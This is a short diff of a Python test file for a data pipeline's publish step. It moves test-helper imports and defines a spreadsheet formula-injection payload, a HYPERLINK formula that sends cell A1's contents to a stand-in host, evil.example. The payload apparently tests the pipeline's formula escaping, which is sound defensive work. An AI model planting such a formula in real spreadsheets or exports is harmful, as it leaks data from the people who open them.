@@ -9,11 +9,11 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
+from builders import GOOD_ROWS, HEADER, petitions_sheet, write_xlsx
 
 from pipeline.outputs import publish as publish_module
 from pipeline.outputs.publish import escape_formulas, publish
 from pipeline.run import run_pipeline
-from tests.test_bad_files import GOOD_ROWS, HEADER, petitions_sheet, write_xlsx
 
 INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 
